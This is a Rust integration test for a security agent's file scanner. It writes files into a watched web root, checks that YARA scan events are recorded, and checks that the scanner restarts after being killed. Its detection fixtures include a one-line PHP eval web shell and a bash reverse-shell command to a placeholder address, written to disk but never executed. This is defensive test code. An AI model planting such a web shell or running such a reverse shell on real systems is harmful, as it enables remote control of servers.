//! The agent with the real scanner: from a written page to the event in the spool.

#![allow(clippy::unwrap_used, reason = "what is missing in a test fails it")]

use std::{
    fs,
    path::Path,
    thread::{self, JoinHandle},
    time::{Duration, Instant, SystemTime},
};

use nix::{
    sys::signal::{Signal, kill},
    unistd::Pid,
};
use yinglong_agent::{
    books::Books,
    scanner::{self, Options, STREAM},
    sensors::Board,
};
use yinglong_model::{
    EventData, Observation, Timestamp,
    config::AgentConfig,
    event::{File, Process},
};
use yinglong_sensor::{Context, Outlet as _};
use yinglong_sensor_linux::{
    accounts::Accounts,
    files::{self, Source, WebRoots},
    tree::Tree,
};
use yinglong_spool::Spool;

const DEADLINE: Duration = Duration::from_secs(60);
const SHELL: &str = "<?php @eval($_POST['x']); ?>";

struct Agent {
    dir: tempfile::TempDir,
    context: Context,
    books: Books,
    board: Board,
    threads: Vec<JoinHandle<()>>,
}

impl Agent {
    fn start() -> Self {
        let dir = tempfile::tempdir().unwrap();
        let options = yinglong_spool::Options {
            new_epoch: 1,
            segment_bytes: 1 << 20,
            max_bytes: 16 << 20,
        };
        let (spool, _) = Spool::open(&dir.path().join("spool"), options).unwrap();
        let (context, board) = (Context::default(), Board::default());
        let books = Books::open(spool, None);
        let options = Options {
            first_pause: Duration::from_millis(10),
            ..Options::new(
                Some(Path::new(env!("CARGO_BIN_EXE_yinglong-scanner"))),
                None,
            )
        };
        let keeper = scanner::start(&context, &books, &board, options).unwrap();
        let mut agent = Self {
            dir,
            context,
            books,
            board,
            threads: keeper.into_iter().collect(),
        };
        agent.watch();
        agent.until("the scanner runs", |agent| agent.state().0);
        agent
    }

    /// Starts the sensor of files on a web root of its own.
    fn watch(&mut self) {
        let root = self.dir.path().join("www");
        fs::create_dir(&root).unwrap();
        let roots = WebRoots::default();
        roots.set(vec![root]);
        let mut config = AgentConfig::default();
        config.client.monitor_path = vec!["%web%".into()];
        self.context.set_config(config);
        let options = files::Options {
            source: Source::Inotify,
            ..files::Options::default()
        };
        let mut sensor = files::open(Tree::default(), Accounts::default(), roots, options).unwrap();
        let mut outlet = self.books.outlet("file", self.board.clone());
        let context = self.context.clone();
        self.threads.push(thread::spawn(move || {
            sensor.run(&context, &mut outlet).unwrap();
        }));
        let mut number = 0;
        self.until("the web root is watched", |agent| {
            number += 1;
            agent.write(&format!("probe{number}"), "x");
            !agent.files().is_empty()
        });
    }

    fn write(&self, name: &str, content: &str) {
        fs::write(self.dir.path().join("www").join(name), content).unwrap();
    }

    /// Events of files in the spool.
    fn files(&self) -> Vec<File> {
        let records = self.books.spool().read(1, 10_000, 8 << 20).unwrap();
        let decoded = records
            .into_iter()
            .map(|(_, record)| yinglong_proto::decode_record(&record).unwrap().1);
        decoded
            .filter_map(|observation| match observation {
                Observation::Event {
                    data: EventData::File(file),
                    ..
                } => Some(*file),
                _ => None,
            })
            .collect()
    }

    fn scans_of(&self, name: &str) -> Vec<File> {
        let mut files = self.files();
        files.retain(|file| file.action == "SCAN" && file.path.ends_with(name));
        files
    }

    /// Whether the scanner runs, and what its status says.
    fn state(&self) -> (bool, String) {
        let statuses = self.board.statuses();
        let status = statuses.into_iter().find(|status| status.stream == STREAM);
        status.map_or_else(Default::default, |status| (status.running, status.reason))
    }

    fn until(&self, what: &str, mut condition: impl FnMut(&Self) -> bool) {
        let began = Instant::now();
        while !condition(self) {
            assert!(began.elapsed() < DEADLINE, "waited for: {what}");
            thread::sleep(Duration::from_millis(20));
        }
    }
}

impl Drop for Agent {
    fn drop(&mut self) {
        self.context.stop();
        for thread in self.threads.drain(..) {
            let ended = thread.join();
            assert!(ended.is_ok() || thread::panicking());
        }
    }
}

/// The scanner below this process.
fn scanner_pid() -> Pid {
    for task in fs::read_dir("/proc/self/task").unwrap() {
        let children = task.unwrap().path().join("children");
        for pid in fs::read_to_string(children).unwrap().split_whitespace() {
            let comm = fs::read_to_string(format!("/proc/{pid}/comm")).unwrap_or_default();
            if comm.starts_with("yinglong-scanne") {
                return Pid::from_raw(pid.parse().unwrap());
            }
        }
    }
    panic!("no scanner");
}

#[test]
fn a_written_page_leads_to_one_event_and_a_killed_scanner_to_another_scanner() {
    let agent = Agent::start();
    agent.write("shell.php", SHELL);
    agent.until("the first shell", |agent| {
        !agent.scans_of("/shell.php").is_empty()
    });
    let scan = agent.scans_of("/shell.php").remove(0);
    assert_eq!(scan.web, Some(true));
    assert_eq!(scan.size, Some(SHELL.len() as u64));
    assert_eq!(scan.yara.as_deref(), Some("php_request_to_code"));
    assert_eq!(scan.yara_tags.as_deref(), Some("webshell|php|danger"));
    assert_eq!(agent.state().1, "");

    // The scanner may not look into processes; the agent hands over what they executed.
    let script = agent.dir.path().join("inside.sh");
    fs::write(&script, "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n").unwrap();
    let process = Process {
        name: script.to_str().unwrap().to_owned(),
        pid: std::process::id(),
        container_id: Some("c".into()),
        ..Process::default()
    };
    let mut executions = agent.books.outlet("process", agent.board.clone());
    executions.emit(Observation::Event {
        occurred_at: Timestamp::from(SystemTime::now()),
        data: EventData::Process(Box::new(process)),
    });
    executions.commit().unwrap();
    agent.until("the file in a container", |agent| {
        !agent.scans_of("/inside.sh").is_empty()
    });

    kill(scanner_pid(), Signal::SIGKILL).unwrap();
    agent.write("again.php", SHELL);
    agent.until("the second shell", |agent| {
        !agent.scans_of("/again.php").is_empty()
    });
    let (running, reason) = agent.state();
    assert!(running && reason == "restarts: 1", "{reason}");
    assert_eq!(agent.scans_of("/shell.php").len(), 1);
    assert!(agent.scans_of("/probe1").is_empty());
    let ledger = agent.books.ledger();
    // Matches are in the books of files, so that they balance with what the server stores.
    let files = ledger.streams["file"].clone();
    assert!(files.balances());
    assert_eq!(files.spooled, agent.files().len() as u64);
    assert!(!ledger.streams.contains_key(STREAM), "nothing was lost");
}
